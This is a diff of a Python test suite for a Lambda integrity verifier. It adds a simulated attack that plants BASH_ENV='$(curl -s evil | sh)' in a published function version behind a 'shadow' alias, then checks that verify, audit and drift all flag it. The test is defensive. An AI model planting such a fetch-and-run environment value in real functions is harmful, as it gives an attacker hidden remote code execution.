@@ -251,11 +251,58 @@ def test_3_a_signed_layer_the_handler_moved_into_it_and_an_exec_wrapper(
     assert {"function.configuration", "function.environment", "layers.declared"} <= failed(report)
 
 
-def test_1_to_3_each_fail_drift(attacked: Attacked) -> None:
-    """Drift runs the same verifier in-process after a plan: one run with the three attacks in
-    place names each one's checks (the plan itself sees none of them but the configuration)."""
+def attack_hidden_environment(attacked: Attacked) -> str:
+    """A variable no list of known-bad names held, in a published version behind an alias;
+    ``$LATEST`` is left clean (issue 18, case 1)."""
+    lam = attacked.client("lambda")
+    name = attacked.hello()["function_name"]
+    lam.update_function_configuration(
+        FunctionName=name, Environment={"Variables": {"BASH_ENV": "$(curl -s evil | sh)"}}
+    )
+    version = str(lam.publish_version(FunctionName=name)["Version"])
+    lam.update_function_configuration(FunctionName=name, Environment={"Variables": {}})
+    lam.create_alias(FunctionName=name, Name="shadow", FunctionVersion=version)
+    return version
+
+
+def test_5_a_variable_hidden_in_a_published_version_fails_verify_and_audit(
+    attacked: Attacked,
+) -> None:
+    version = attack_hidden_environment(attacked)
+    code, report = attacked.verify()
+    assert code == 1
+    on_version = [
+        c
+        for c in report["checks"]
+        if c["id"] == "function.environment" and c["code_path"] == version
+    ]
+    assert on_version and on_version[0]["status"] == "fail"
+    assert "BASH_ENV (not declared)" in on_version[0]["actual"]
+    assert "curl" not in json.dumps(report), "a value is never reported"
+    result = attacked.cli(
+        "audit",
+        "--lock",
+        str(attacked.lock_file),
+        "--function-prefix",
+        attacked.hello()["function_name"],
+        "--no-cache",
+        "--format",
+        "json",
+    )
+    assert result.returncode == 1, result.stderr
+    audit = json.loads(result.stdout)
+    assert {c["id"] for c in audit["checks"] if c["status"] == "fail"} >= {
+        "function.environment",
+        "aliases.signed",
+    }
+
+
+def test_1_to_3_and_5_each_fail_drift(attacked: Attacked) -> None:
+    """Drift runs the same verifier in-process after a plan: one run with the attacks in place
+    names each one's checks (the plan itself sees none of them but the configuration)."""
     attack_1(attacked)
     attack_2(attacked)
+    attack_hidden_environment(attacked)  # before attack 3, which sets $LATEST's environment
     attack_3(attacked)
     code, summary = attacked.drift()
     assert code == 1
